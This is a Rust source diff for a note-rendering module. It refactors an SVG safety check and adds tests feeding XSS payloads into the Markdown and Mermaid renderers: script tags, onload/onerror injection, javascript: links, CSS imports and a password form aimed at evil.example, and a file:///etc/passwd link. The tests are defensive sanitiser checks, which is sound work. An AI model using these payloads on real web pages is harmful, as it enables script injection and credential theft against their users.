@@ -1,5 +1,7 @@
 //! Handover notes on the page: Markdown without raw markup, flow charts as pictures, the difference of two versions.
 
+mod picture;
+
 use std::{
     collections::HashMap,
     hash::{DefaultHasher, Hash, Hasher},
@@ -194,9 +196,7 @@ fn draw_anew(source: &str) -> Option<Arc<str>> {
         mermaid_rs_renderer::render_strict(&plain, mermaid_rs_renderer::RenderOptions::modern()).ok()
     });
     let svg = drawn.ok().flatten()?;
-    let lower = svg.to_ascii_lowercase();
-    let is_harmless = !["<script", "<foreignobject", "href=\""].iter().any(|bad| lower.contains(bad));
-    is_harmless.then(|| Arc::from(svg))
+    picture::is_harmless(&svg).then(|| Arc::from(svg))
 }
 
 /// A line of the difference.
@@ -326,6 +326,103 @@ mod tests {
         assert!(!svg.contains("<script") && !svg.contains("javascript"), "{svg}");
         let hidden = "flowchart LR; A --> B; click A \"javascript:alert(1)\"";
         assert!(draw_chart(hidden).is_none_or(|svg| !svg.contains("javascript")));
+    }
+
+    /// Each chart is one that somebody might write to reach whoever reads the note.
+    #[test]
+    fn a_hostile_chart_is_drawn_harmless_or_not_at_all() {
+        for source in [
+            "flowchart LR\n  A[\"<img src=x onerror=alert(1)>\"] --> B",
+            "flowchart LR\n  A[\"<foreignObject><script>x</script></foreignObject>\"] --> B",
+            "flowchart LR\n  A --> B\n  style A fill:url(https://evil.example/x)",
+            "flowchart LR\n  A --> B\n  classDef x fill:#fff,background:url(//evil.example)\n  class A x",
+            "flowchart LR\n  A --> B\n  linkStyle 0 stroke:red\" onload=\"x()",
+            "flowchart LR\n  A[\"\\\" onload=\\\"x()\"] --> B",
+            "%%{init: {\"themeCSS\": \"@import url(https://evil.example/x.css)\"}}%%\nflowchart LR\n  A --> B",
+            "%%{init: {\"fontFamily\": \"x\\\" onload=\\\"x()\"}}%%\nflowchart LR\n  A --> B",
+            "flowchart LR\n  A[\"&lt;script&gt;\"] --> B[\"]]></text><script>x</script>\"]",
+            "flowchart LR\n  A@{ img: \"https://evil.example/x.png\" }",
+            "sequenceDiagram\n  A->>B: <script>x</script>\n  link A: x @ https://evil.example",
+            "flowchart LR\n  A --> B\n  click A href \"https://evil.example\" _blank",
+        ] {
+            let Some(svg) = draw_chart(source) else { continue };
+            assert!(picture::is_harmless(&svg), "{source} → {svg}");
+            assert!(!svg.contains("evil.example\"") && !svg.contains("<script"), "{source} → {svg}");
+        }
+    }
+
+    #[test]
+    fn a_hostile_note_reaches_the_page_as_text() {
+        for body in [
+            "<a href=\"javascript:alert(1)\">x</a>",
+            "<iframe src=\"//evil.example\"></iframe>",
+            "<form action=\"//evil.example\"><input name=password></form>",
+            "<!-- --><script>x</script>",
+            "<![CDATA[<script>x</script>]]>",
+            "<?php x ?>",
+            "a\u{0}<scr\u{0}ipt>x</script>",
+            "[x](\u{1}javascript:alert(1))",
+            "[x](  &#106;avascript:alert(1))",
+            "[x](feed:javascript:alert(1))",
+            "[x](blob:https://x) [y](file:///etc/passwd) [z](ftp://x) [w](\\\\evil.example)",
+            "![x](javascript:alert(1)) ![y\" onerror=\"x](a.png)",
+            "[x](/a \"t\" onclick=\"x\")",
+            "<https://example.com/\" onmouseover=\"x>",
+            "```\n</code></pre><script>x</script>\n```",
+            "```mermaid\" onload=\"x\nflowchart LR\n  A --> B\n```",
+            "# <script>x</script> {#id .class onclick=x}",
+            "| <script>x</script> |\n|---|\n| <b onclick=x>y</b> |",
+            "[^1]\n\n[^1]: <script>x</script>",
+            "~~<script>x</script>~~ - [ ] <input onclick=x>",
+        ] {
+            let html = markup(body);
+            for part in html.split('<').skip(1).filter(|part| !part.starts_with('/')) {
+                let tag = part.split('>').next().unwrap_or("");
+                let name: String = tag.chars().take_while(char::is_ascii_alphanumeric).collect();
+                let known = [
+                    "p",
+                    "a",
+                    "b",
+                    "code",
+                    "pre",
+                    "h3",
+                    "h4",
+                    "h5",
+                    "h6",
+                    "table",
+                    "thead",
+                    "tbody",
+                    "tr",
+                    "th",
+                    "td",
+                    "del",
+                    "ul",
+                    "ol",
+                    "li",
+                    "input",
+                    "em",
+                    "strong",
+                    "figure",
+                    "img",
+                    "details",
+                    "summary",
+                    "br",
+                    "blockquote",
+                    "hr",
+                ];
+                assert!(known.contains(&name.as_str()), "<{tag}> in {body} → {html}");
+                // Attributes stand outside of quotes; what is inside of them is a value.
+                let outside: String = tag.split('"').step_by(2).collect();
+                assert!(!outside.contains(" on") && !outside.contains("style"), "<{tag}> in {body} → {html}");
+                let leads = tag.split("href=\"").nth(1).unwrap_or("").to_lowercase();
+                for scheme in ["javascript", "feed", "blob", "file", "ftp", "data", "\\\\"] {
+                    assert!(
+                        !leads.trim_start_matches(|c: char| c.is_control()).starts_with(scheme),
+                        "{body} → {html}"
+                    );
+                }
+            }
+        }
     }
 
     #[test]
